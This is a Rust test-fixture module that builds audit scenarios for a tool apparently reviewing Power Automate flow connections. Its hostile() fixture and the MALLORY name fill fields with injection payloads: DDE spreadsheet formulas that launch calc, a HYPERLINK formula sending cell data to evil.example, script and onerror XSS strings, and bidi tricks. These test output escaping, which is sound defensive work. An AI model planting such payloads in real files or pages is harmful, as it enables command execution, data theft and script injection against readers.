//! The flows that records are made of, beyond those of the panel's own tests.

use connection_lens::audit::StepId;
use connection_lens::protocol::{Event, Scope};
use connection_lens::session::Kept;
use serde_json::{Value, json};

use super::stage::{self, ANA, BEN, Conn, ENVIRONMENT, Inside, NOON, Op, Person, SERVICE, Stage, conn, flow_body, op};

const MINUTE: f64 = 60_000.0;

pub const MALLORY: Person = Person { name: "@SUM(1+1)*cmd|' /C calc'!A0", address: "mallory@contoso.com", id: "99999999-0000-4000-8000-000000000009" };

fn note(stage: &mut Stage, item: &str, text: &str) {
    stage.feed(&Event::Note { item: item.into(), text: Some(text.into()), at: NOON + 2.0 * MINUTE }, "");
}

fn tick(stage: &mut Stage, item: &str) {
    stage.feed(&Event::TickItem { item: item.into(), on: true, at: NOON + 3.0 * MINUTE }, "");
}

fn stays(stage: &mut Stage, item: &str, reason: &str) {
    stage.feed(&Event::Dismiss { item: item.into(), reason: Some(reason.into()), at: NOON + 4.0 * MINUTE }, "");
}

/// Much is decided by hand, and noted: one group stays, one that nobody can see into was looked at, one connection is there by somebody's word.
pub fn decided_by_hand() -> Stage {
    let mut stage = Stage::at("?v3=true");
    stage.intend(&[SERVICE.address], Scope::Flow);
    let mut ops = stage::handover(2);
    ops.push(op("Get_rows", Some("commondataserviceforapps.hidden"), Inside::Top));
    ops.push(op("Add_a_row", Some("commondataserviceforapps.hidden"), Inside::Top));
    stage.flow(&flow_body("Invoice approval – Facilities", &ops, &["office365.old"], ANA));
    stage.connections(&[
        conn("office365.ana", ANA, ANA),
        conn("sharepointonline.ben", BEN, BEN),
        conn("office365.svc", SERVICE, SERVICE),
        conn("teams.svc", SERVICE, SERVICE),
        conn("office365.old", ANA, ANA),
    ]);
    stays(&mut stage, "reassign:office365.ana/shared_office365", "These two mails are to come from Ana herself.");
    tick(&mut stage, "unknown:commondataserviceforapps.hidden/shared_commondataserviceforapps");
    tick(&mut stage, "need:shared_sharepointonline");
    note(&mut stage, "step:people", "Ana stays a co-owner until March.");
    note(&mut stage, "reassign:sharepointonline.ben/shared_sharepointonline", "Ben does this on Monday.");
    note(&mut stage, "need:shared_sharepointonline", "Ticket 4711: the service account is added to the site.");
    note(&mut stage, "connection:office365.old", "Was for the old template.");
    note(&mut stage, "reassign:office365.gone/shared_office365", "Done with Ana on the phone.");
    stage
}

/// Everything is settled, but not everything by the data: two things stay, with a reason and without one.
pub fn finished_with_exceptions() -> Stage {
    let mut stage = decided_by_hand();
    stays(&mut stage, "reassign:sharepointonline.ben/shared_sharepointonline", "");
    stays(&mut stage, "connection:office365.old", "The archive needs it until the audit is over.");
    stage.pane(&[conn("office365.old", ANA, ANA)]);
    stage.feed(&Event::Tick { step: StepId::People, on: true, at: NOON + 5.0 * MINUTE }, "");
    stage
}

/// It was all done; then Ben added an operation, and the designer gave it his own connection.
pub fn relapsed() -> Stage {
    let mut stage = stage::all_done();
    let as_done = |op: Op| if op.inside == Inside::Trigger { Op { runs_on: Some("sharepointonline.svc"), ..op } } else { op };
    let mut ops: Vec<Op> = stage::handover(0).into_iter().map(as_done).collect();
    ops.push(op("Tell_Ben", Some("teams.ben"), Inside::Top));
    stage.connections(&[conn("teams.ben", BEN, BEN)]);
    stage.flow(&flow_body("Invoice approval – Facilities", &ops, &[], ANA));
    stage.designer(&ops, false);
    stage
}

/// The organisation decides for the environment and for one connector, and isn't to be overruled: what the person said of another isn't heard.
pub fn by_rules() -> Stage {
    let mut stage = Stage::at("?v3=true");
    stage.kept = Kept::from_items(&json!({
        "managed": { "locked": true, "intended": [
            { "accounts": [SERVICE.address], "environment": ENVIRONMENT },
            { "accounts": ["svc-teams@contoso.com", "svc-chat-*@contoso.com"], "connector": "shared_teams", "environment": ENVIRONMENT, "signInAlone": true },
        ] },
        "settings": { "rules": [{ "accounts": [BEN.address], "connector": "shared_sql" }] },
    }));
    let mut ops = stage::handover(2);
    ops.push(op("Run_a_query", Some("sql.ben"), Inside::Top));
    stage.flow(&flow_body("Invoice approval – Facilities", &ops, &[], ANA));
    stage.connections(&[
        conn("office365.ana", ANA, ANA),
        conn("sharepointonline.ben", BEN, BEN),
        conn("office365.svc", SERVICE, SERVICE),
        conn("teams.svc", SERVICE, SERVICE),
        conn("sql.ben", BEN, BEN),
    ]);
    stage
}

/// Only for connectors somebody said anything: there is nothing to say in general.
pub fn by_own_rules_for_connectors() -> Stage {
    let mut stage = Stage::at("?v3=true");
    stage.kept = Kept::from_items(&json!({ "settings": { "rules": [
        { "accounts": [SERVICE.address], "connector": "shared_office365", "environment": ENVIRONMENT, "sign_in_alone": true },
        { "accounts": ["ben.ortiz@contoso.com"], "connector": "/providers/Microsoft.PowerApps/apis/shared_teams" },
    ] } }));
    let ops = [op("Send_an_email_(V2)", Some("office365.svc"), Inside::Top), op("Post_a_message", Some("teams.ben"), Inside::Top)];
    stage.flow(&flow_body("Ping", &ops, &[], ANA));
    stage.connections(&[conn("office365.svc", SERVICE, ANA), conn("teams.ben", BEN, BEN)]);
    stage
}

/// Names that try what papers are made of: formulas, Markdown, markup, line ends, direction. They stand in operations, connections, rules, reasons and notes.
pub fn hostile() -> Stage {
    let mut stage = stage::hostile();
    let names = [
        "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
        "| a | b |\n| --- | --- |",
        "\tTab, then\r\na line",
        "![x](https://evil.example/x.png) <script>alert(1)</script> **loud** `code` ~~gone~~ $x$",
        "\u{202e}gnihton\u{202c} שליחת דואר \u{2066}x",
        "-2+3+cmd|' /C calc'!A0",
        "'already quoted, \"twice\"",
        "</td></tr></table><!-- & &amp; ]]>",
    ];
    let mut ops: Vec<Op> = names.iter().map(|name| op(name, Some("office365.mal"), Inside::No)).collect();
    ops.push(op("=cmd|' /C calc'!A1", Some("=1+1|<b>.mal"), Inside::Top));
    ops.push(op("[link](javascript:alert(1))", Some("sql.-"), Inside::Top));
    let mut body = flow_body("=1+1\n# Not a heading | <h1>", &ops, &["office365.old", "office365.unseen"], MALLORY);
    body["properties"]["connectionReferences"]["=1+1|<b>.mal"]["displayName"] = Value::from("=cmd|'<img src=x onerror=alert(1)>'!A0");
    stage.flow(&body);
    let row = |conn: Conn, label| Conn { label: Some(label), ..conn };
    stage.connections(&[
        row(conn("office365.mal", MALLORY, MALLORY), "+1 <i>label</i>"),
        row(conn("office365.old", MALLORY, MALLORY), "=1+1"),
        row(conn("=1+1|<b>.mal", MALLORY, MALLORY), "@A1"),
        conn("office365.svc", SERVICE, SERVICE),
    ]);
    stage.dismiss("connection:office365.old", "-1, \"said\" <b>he</b>\n| and | left");
    stays(&mut stage, "reassign:office365.mal/shared_office365", "=cmd|' /C calc'!A0 <img src=x onerror=alert(1)> | a | **b**");
    tick(&mut stage, "unknown:sql.-/shared_sql");
    tick(&mut stage, "need:shared_office365");
    note(&mut stage, "reassign:office365.mal/shared_office365", "=cmd|' /C calc'!A0");
    note(&mut stage, "step:save", "<img src=x onerror=alert(1)>");
    note(&mut stage, "step:people", "| a | b |");
    note(&mut stage, "connection:office365.old", "**bold** _and_ [x](https://evil.example) <!--");
    note(&mut stage, "connection:=1+1|<b>", "\u{202e}gnihton");
    note(&mut stage, "=what|is <this>?", "+1");
    stage
}
